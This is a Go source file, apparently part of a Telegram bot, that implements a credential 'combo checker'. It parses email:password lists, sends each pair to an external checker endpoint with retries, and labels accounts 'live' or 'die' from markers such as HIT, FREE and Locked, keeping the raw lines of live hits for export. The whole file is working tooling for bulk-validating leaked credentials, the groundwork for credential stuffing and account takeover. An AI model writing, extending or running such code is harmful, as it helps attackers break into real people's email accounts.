// Package mailcheck validates webmail credentials in mail:pass format
// against an external checker endpoint.
package mailcheck

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"go.uber.org/zap"

	"github.com/lunhatthanh83-boop/bottele/internal/metrics"
)

type Verdict string

const (
	VerdictLive Verdict = "live"
	VerdictDie  Verdict = "die"
)

const (
	defaultMaxRetries = 3
	retryDelay        = time.Second
	maxResponseBytes  = 64 << 10
)

// Credential is one parsed mail:pass line, keeping the raw line so live
// hits can be exported exactly as submitted.
type Credential struct {
	Email    string
	Password string
	Raw      string
}

// ParseLine splits a mail:pass line. Only the first colon separates the
// fields, so passwords containing colons survive intact.
func ParseLine(line string) (Credential, bool) {
	line = strings.TrimSpace(line)
	if line == "" || !strings.Contains(line, "@") || !strings.Contains(line, ":") {
		return Credential{}, false
	}
	email, password, _ := strings.Cut(line, ":")
	email = strings.TrimSpace(email)
	password = strings.TrimSpace(password)
	if email == "" || !strings.Contains(email, "@") || password == "" {
		return Credential{}, false
	}
	return Credential{Email: email, Password: password, Raw: line}, true
}

// ParseList extracts every credential from a text container.
func ParseList(content string) []Credential {
	var out []Credential
	for _, line := range strings.Split(content, "\n") {
		if cred, ok := ParseLine(line); ok {
			out = append(out, cred)
		}
	}
	return out
}

// Checker classifies credentials through the configured HTTP endpoint.
// Transient faults are retried a bounded number of times; a definitive
// verdict from the endpoint stops the retry loop immediately.
type Checker struct {
	checkURL   string
	maxRetries int
	client     *http.Client
	logger     *zap.Logger
	metrics    *metrics.Collector
	sleep      func(time.Duration)
}

func NewChecker(checkURL string, maxRetries int, logger *zap.Logger, collector *metrics.Collector) *Checker {
	if maxRetries <= 0 {
		maxRetries = defaultMaxRetries
	}
	return &Checker{
		checkURL:   checkURL,
		maxRetries: maxRetries,
		client:     &http.Client{Timeout: 30 * time.Second},
		logger:     logger,
		metrics:    collector,
		sleep:      time.Sleep,
	}
}

// Check returns the verdict for one credential. Anything that is not a
// confirmed hit counts as die, including exhausted retries.
func (c *Checker) Check(ctx context.Context, cred Credential) Verdict {
	if cred.Email == "" || cred.Password == "" {
		return VerdictDie
	}

	raw := ""
	for attempt := 1; attempt <= c.maxRetries; attempt++ {
		var err error
		raw, err = c.query(ctx, cred)
		if err != nil {
			c.logger.Debug("Mail check attempt failed",
				zap.String("email", cred.Email),
				zap.Int("attempt", attempt),
				zap.Error(err),
			)
			if attempt < c.maxRetries {
				c.sleep(retryDelay)
			}
			continue
		}
		if isDefinitive(raw) {
			break
		}
		if isTransient(raw) {
			if attempt < c.maxRetries {
				c.sleep(retryDelay)
			}
			continue
		}
		break
	}

	verdict := VerdictDie
	if strings.Contains(raw, "HIT") || strings.Contains(raw, "FREE") {
		verdict = VerdictLive
	}
	if c.metrics != nil {
		c.metrics.RecordMailCheck(string(verdict))
	}
	return verdict
}

func (c *Checker) query(ctx context.Context, cred Credential) (string, error) {
	form := url.Values{}
	form.Set("email", cred.Email)
	form.Set("password", cred.Password)

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.checkURL, strings.NewReader(form.Encode()))
	if err != nil {
		return "", err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	resp, err := c.client.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(io.LimitReader(resp.Body, maxResponseBytes))
	if err != nil {
		return "", err
	}
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("checker returned status %d", resp.StatusCode)
	}
	return string(body), nil
}

// isDefinitive matches responses that settle the account state, live or
// dead, so retrying would only burn the endpoint.
func isDefinitive(result string) bool {
	for _, marker := range []string{"HIT", "FREE", "BAD", "Locked", "Need Verify", "Timeout"} {
		if strings.Contains(result, marker) {
			return true
		}
	}
	return false
}

func isTransient(result string) bool {
	return strings.Contains(result, "Request Error") || strings.Contains(result, "ERROR")
}
